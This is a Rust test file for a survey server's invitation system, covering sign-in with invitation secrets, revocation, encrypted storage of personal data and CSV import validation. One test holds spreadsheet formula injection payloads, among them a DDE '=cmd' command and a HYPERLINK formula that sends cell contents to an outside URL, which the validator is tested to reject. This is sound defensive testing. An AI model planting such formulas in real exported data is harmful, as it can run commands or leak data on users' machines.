//! Invited people, and the effect of an invitation.

use super::*;

#[tokio::test]
async fn sign_in_with_same_invitation_resumes_response() {
    let server = TestServer::start().await;
    offer(&server, "closed", &["invitationRequired=true"]).await;
    offer(&server, "other", &["invitationRequired=true"]).await;
    let [ada, bo] = invited(&server, "closed").await;
    assert_eq!(ada.len(), 64);
    assert_eq!(
        settings(&server, "closed").await.data()["invitationRequired"],
        true
    );
    let nobody = || server.nobody();
    let uninvited = refusal(&mut nobody(), &body("closed", 1980, None)).await;
    assert_eq!(uninvited, "InvitationRequired");
    for wrong in ["", "abc", &ada.replace(|_| true, "0")] {
        let refused = refusal(&mut nobody(), &body("closed", 1980, Some(wrong))).await;
        assert_eq!(refused, "InvitationUnknown");
    }
    assert_eq!(
        refusal(&mut nobody(), &body("other", 1980, Some(&ada))).await,
        "InvitationUnknown"
    );

    let mut first = nobody();
    first.sign_in_as(&body("closed", 1980, Some(&ada))).await.data();
    first.save(0, json!({"agree": true, "stress": 1})).await.data();
    let mut second = nobody();
    assert_eq!(
        refusal(&mut second, &body("closed", 1981, Some(&ada))).await,
        "InvitationOther"
    );
    second.sign_in_as(&body("closed", 1980, Some(&ada))).await.data();
    assert_eq!(second.id, first.id);
    assert_eq!(
        second.settings("closed").await["draft"]["answers"],
        json!({"agree": true, "stress": 1})
    );

    let mut somebody_else = nobody();
    somebody_else
        .sign_in_as(&body("closed", 1980, Some(&bo)))
        .await
        .data();
    assert_ne!(somebody_else.id, first.id);
}

#[tokio::test]
async fn sign_in_with_revoked_invitation_fails_as_unknown() {
    let server = TestServer::start().await;
    offer(&server, "closed", &["invitationRequired=true"]).await;
    let [ada, bo] = invited(&server, "closed").await;
    let mut client = server.nobody();
    client.sign_in_as(&body("closed", 1980, Some(&ada))).await.data();
    let link = client.return_link().await;
    admin(&server, |admin| admin.revoke("closed", "ada"))
        .await
        .unwrap();
    assert_eq!(
        client.save(0, json!({"agree": true, "stress": 1})).await.error(),
        (401, "InvalidSession".into())
    );
    let back = server.nobody().come_back(&link).await;
    assert_eq!(back.error(), (200, "NotFound".into()));
    let revoked = refusal(&mut server.nobody(), &body("closed", 1980, Some(&ada))).await;
    assert_eq!(revoked, "InvitationUnknown");
    let again = admin(&server, |admin| admin.revoke("closed", "ada")).await;
    assert!(again.unwrap_err()[0].contains("there is no invitation `ada`"));

    let anew = letters(&server, "closed", &["bo"]).await;
    assert_eq!(anew.len(), 1);
    let old = refusal(&mut server.nobody(), &body("closed", 1980, Some(&bo))).await;
    assert_eq!(old, "InvitationUnknown");
    server
        .nobody()
        .sign_in_as(&body("closed", 1980, Some(&anew[0].1)))
        .await
        .data();
    // A revoked person can be invited again, and begins anew.
    assert_eq!(
        admin(&server, |admin| admin.invite("closed", None))
            .await
            .unwrap(),
        1
    );
    let states = admin(&server, |admin| admin.invitations("closed")).await.unwrap();
    let states: Vec<_> = states.iter().map(|line| (&*line.reference, line.state)).collect();
    assert_eq!(states, [("ada", "revoked"), ("bo", "used"), ("ada", "to print")]);
}

#[tokio::test]
async fn unassigned_invitation_to_open_survey_resumes_response() {
    let server = TestServer::start().await;
    assert_eq!(
        admin(&server, |admin| admin
            .invite("pulse", Some((2, enkat_store::PersonSettings::default()))))
        .await
        .unwrap(),
        2
    );
    let letters = letters(&server, "pulse", &[]).await;
    let mut ids = Vec::new();
    for (_, secret) in letters.iter().chain(&letters) {
        let mut client = server.nobody();
        client.sign_in_as(&body("pulse", 1980, Some(secret))).await.data();
        ids.push(client.id);
    }
    assert_eq!(ids[..2], ids[2..]);
    assert_ne!(ids[0], ids[1]);
    server
        .nobody()
        .sign_in_as(&body("pulse", 1980, None))
        .await
        .data();
}

#[tokio::test]
async fn invitation_personal_data_is_encrypted_in_database() {
    let server = TestServer::start().await;
    offer(&server, "closed", &["invitationRequired=true"]).await;
    let [ada, _] = invited(&server, "closed").await;
    server
        .nobody()
        .sign_in_as(&body("closed", 1980, Some(&ada)))
        .await
        .data();
    let bytes: Vec<u8> = ["enkat.db", "enkat.db-wal"]
        .iter()
        .flat_map(|file| std::fs::read(server.data().join(file)).unwrap_or_default())
        .collect();
    let holds = |text: &str| bytes.windows(text.len()).any(|window| window == text.as_bytes());
    assert!(holds("ada"));
    for secret in ["Byron", "ada@example.org", ada.as_str()] {
        assert!(!holds(secret), "{secret}");
        assert!(!crate::routes::testing::logged().contains(secret), "{secret}");
    }
    let opened = admin(&server, |admin| {
        let letters = admin.letters("closed", &["ada".to_owned()])?;
        Ok(letters[0].person.clone())
    });
    let person = opened.await.unwrap();
    assert_eq!((&*person.first_name, &*person.email), ("Ada", "ada@example.org"));
}

#[test]
fn invitee_read_invalid_table_reports_all_findings() {
    let read = |table: &str| -> Vec<String> {
        let findings = Invitee::read(table, None).err().unwrap_or_default();
        findings.iter().map(ToString::to_string).collect()
    };
    assert_eq!(read(PEOPLE), Vec::<String>::new());
    assert_eq!(read("\u{feff}reference\r\nada\r\n"), Vec::<String>::new());
    assert_eq!(read("email, reference\n,ada\n"), Vec::<String>::new());
    assert_eq!(
        read("reference;firstName\nada;Ada, Countess\n"),
        Vec::<String>::new()
    );
    assert_eq!(
        read("reference,email,email,age\n"),
        [
            "1:3: the column `email` is there twice",
            "1:4: the head names the columns, and this is none of them: `reference`, `firstName`, `lastName`, `email`, \
             `preset`, `gender`, `unit`, `language`, and the flags of the survey",
        ]
    );
    assert_eq!(read("email\n"), ["1:1: the column `reference` is missing"]);
    assert_eq!(read("reference\n"), ["1:1: there is no person in the table"]);
    assert_eq!(
        read("reference,email\na b,x@example.org\nada,x\nADA,\nbo\n,y@\n"),
        [
            "2:1: a `reference` is made of letters, digits, `-` and `_`, at most 64",
            "3:2: this is no e-mail address: correct it, or leave it empty",
            "4:1: line 3 has the same `reference`: each is listed once",
            "5:1: the row has 1 fields, the head 2: leave fields empty, but keep their commas",
            "6:1: a `reference` is made of letters, digits, `-` and `_`, at most 64",
            "6:2: this is no e-mail address: correct it, or leave it empty",
        ]
    );
    // A quote that is not closed takes the next lines in.
    assert_eq!(
        read("reference,firstName\nada,\"Ada\nbo,Bo\n"),
        ["2:2: a name has at most 100 characters, in one line"]
    );
}

#[test]
fn invitee_read_rejects_spreadsheet_formulas() {
    let table = "reference,firstName,lastName,email\n\
                 a,\"=HYPERLINK(\"\"http://example.org/\"\"&D1)\",+1,=cmd|'/c'!A0@example.org\n\
                 b, @SUM(A1),-,-a@example.org\n\
                 w,＝SUM(A1),＋1,\n\
                 c,Anna-Karin,O'Hara = Byron,a+b=c@example.org\n\
                 -2-3,,,\n";
    let findings = Invitee::read(table, None).err().unwrap_or_default();
    let places: Vec<_> = findings
        .iter()
        .map(|finding| (finding.line, finding.column))
        .collect();
    let expected = [
        (2, 2),
        (2, 3),
        (2, 4),
        (3, 2),
        (3, 3),
        (3, 4),
        (4, 2),
        (4, 3),
        (6, 1),
    ];
    assert_eq!(places, expected);
    assert_eq!(
        findings[0].text,
        "a spreadsheet would take this for a formula: it begins with `=`, `+`, `-` or `@`"
    );
}

#[tokio::test]
async fn revoke_and_letters_with_ambiguous_reference_fail() {
    let server = TestServer::start().await;
    admin(&server, |admin| {
        let table = "reference\n2\nbo\n";
        admin.import_people("pulse", &Invitee::read(table, None).unwrap(), false)?;
        assert_eq!(
            admin.invite("pulse", Some((2, enkat_store::PersonSettings::default())))?,
            2
        );
        assert_eq!(admin.invite("pulse", None)?, 2);
        Ok(())
    })
    .await
    .unwrap();
    // Number 3 has the reference 2; number 2 has no reference.
    let [revoked, again] = [
        admin(&server, |admin| admin.revoke("pulse", "2")).await,
        admin(&server, |admin| admin.letters("pulse", &keys(&["2"])).map(|_| ())).await,
    ]
    .map(|asked| asked.unwrap_err().concat());
    assert_eq!(
        revoked,
        "`2` is the reference of one invitation and the number of another: say `no.2` or `no.3`"
    );
    assert_eq!(revoked, again);
    admin(&server, |admin| admin.revoke("pulse", "no.2"))
        .await
        .unwrap();
    let states = admin(&server, |admin| admin.invitations("pulse")).await.unwrap();
    let revoked: Vec<_> = states.iter().filter(|line| line.state == "revoked").collect();
    assert_eq!(revoked.len(), 1);
    assert_eq!((revoked[0].id, &*revoked[0].reference), (2, ""));

    // By whatever name: each address that is printed opens.
    let letters = letters(&server, "pulse", &["bo", "no.4", "2", "bo"]).await;
    let whose: Vec<_> = letters.iter().map(|(reference, _)| &**reference).collect();
    assert_eq!(whose, ["bo", "2"]);
    for (_, secret) in &letters {
        server
            .nobody()
            .sign_in_as(&body("pulse", 1980, Some(secret)))
            .await
            .data();
    }
}
